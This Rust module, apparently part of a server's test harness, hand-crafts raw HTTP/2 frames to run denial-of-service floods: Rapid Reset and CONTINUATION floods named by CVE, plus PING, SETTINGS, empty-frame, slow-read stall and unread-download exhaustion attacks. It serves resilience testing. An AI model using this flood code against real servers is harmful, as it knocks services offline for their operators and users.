//! Floods of HTTP/2, frame by frame (RFC 9113). No client library would send them.

use std::io;

use tokio::io::{AsyncWriteExt, ReadHalf, WriteHalf, split};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use waystation_testing::line::Target;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// `SETTINGS_INITIAL_WINDOW_SIZE`, of one byte.
const NARROW_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 1];

/// The same, of as many bytes as there can be.
const WIDE_WINDOW: [u8; 6] = [0, 4, 0x7f, 0xff, 0xff, 0xff];
/// By how much the window of a connection can grow from what it is at first.
const WIDEST: u32 = 0x7fff_ffff - 65_535;

/// One that floods.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// The head of a request that never ends (CVE-2024-27316 and its kin).
    Continuation,
    /// Pings that all want an answer.
    Ping,
    /// Settings that all want an acknowledgement.
    Settings,
    /// Frames without anything in them.
    Empty,
}

pub(crate) const FLOODS: [Flood; 5] = [
    Flood::RapidReset,
    Flood::Continuation,
    Flood::Ping,
    Flood::Settings,
    Flood::Empty,
];

/// A connection of HTTP/2 on which the preface has been sent.
pub(crate) struct Frames {
    reading: ReadHalf<TlsStream<TcpStream>>,
    writing: WriteHalf<TlsStream<TcpStream>>,
    next_stream: u32,
}

impl Frames {
    pub(crate) async fn open(target: &Target, host: u8, settings: &[u8]) -> io::Result<Self> {
        let line = target.open_http2(host).await?;
        let (reading, mut writing) = split(line.into_stream());
        writing.write_all(PREFACE).await?;
        writing.write_all(&frame(SETTINGS, 0, 0, settings)).await?;
        writing.flush().await?;
        Ok(Self {
            reading,
            writing,
            next_stream: 1,
        })
    }

    /// Sends so many frames of a flood in one piece.
    pub(crate) async fn flood(&mut self, flood: Flood, count: u32) -> io::Result<()> {
        let mut bytes = Vec::new();
        for _ in 0..count {
            match flood {
                Flood::RapidReset => {
                    let stream = self.new_stream();
                    let flags = END_HEADERS | END_STREAM;
                    bytes.extend(frame(HEADERS, flags, stream, &get("/")));
                    bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
                }
                Flood::Continuation => {
                    if self.next_stream == 1 {
                        let stream = self.new_stream();
                        bytes.extend(frame(HEADERS, END_STREAM, stream, &get("/")));
                    }
                    bytes.extend(frame(CONTINUATION, 0, 1, &literal("x-flood", "drop")));
                }
                Flood::Ping => bytes.extend(frame(PING, 0, 0, &[0; 8])),
                Flood::Settings => bytes.extend(frame(SETTINGS, 0, 0, &NARROW_WINDOW)),
                Flood::Empty => {
                    if self.next_stream == 1 {
                        let stream = self.new_stream();
                        bytes.extend(frame(HEADERS, END_HEADERS, stream, &get("/")));
                    }
                    bytes.extend(frame(0, 0, 1, &[]));
                }
            }
        }
        self.writing.write_all(&bytes).await?;
        self.writing.flush().await
    }

    fn new_stream(&mut self) -> u32 {
        let stream = self.next_stream;
        self.next_stream += 2;
        stream
    }

    /// Reads and forgets, until the other side closes.
    pub(crate) async fn drain(mut self) {
        let mut nowhere = tokio::io::sink();
        // Some ends are less polite than others; all are ends.
        let _ = tokio::io::copy(&mut self.reading, &mut nowhere).await;
    }
}

/// Asks for a download, takes one byte of it, and waits until the server gives up.
pub(crate) async fn stall(target: &Target, host: u8, path: &str) -> io::Result<()> {
    let mut frames = Frames::open(target, host, &NARROW_WINDOW).await?;
    let stream = frames.new_stream();
    let flags = END_HEADERS | END_STREAM;
    let request = frame(HEADERS, flags, stream, &get(path));
    frames.writing.write_all(&request).await?;
    frames.writing.flush().await?;
    frames.drain().await;
    Ok(())
}

/// Asks for so many downloads at once, lets the server send as much as it likes, and takes nothing.
pub(crate) async fn ask_and_take_nothing(
    target: &Target,
    host: u8,
    path: &str,
    downloads: u32,
) -> io::Result<Frames> {
    let mut frames = Frames::open(target, host, &WIDE_WINDOW).await?;
    let mut bytes = frame(WINDOW_UPDATE, 0, 0, &WIDEST.to_be_bytes());
    for _ in 0..downloads {
        let stream = frames.new_stream();
        let flags = END_HEADERS | END_STREAM;
        bytes.extend(frame(HEADERS, flags, stream, &get(path)));
    }
    frames.writing.write_all(&bytes).await?;
    frames.writing.flush().await?;
    Ok(frames)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The head of a request, compressed as little as can be (RFC 7541): method, scheme, authority, path.
fn get(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87];
    block.extend([0x01]);
    block.extend(text("localhost"));
    block.extend([0x04]);
    block.extend(text(path));
    block
}

/// A header that neither side is to remember.
fn literal(name: &str, value: &str) -> Vec<u8> {
    [vec![0x10], text(name), text(value)].concat()
}

/// A text of up to 253 bytes.
fn text(text: &str) -> Vec<u8> {
    let length = u8::try_from(text.len()).unwrap();
    let mut coded = if length < 127 {
        vec![length]
    } else {
        vec![127, length - 127]
    };
    coded.extend(text.bytes());
    coded
}
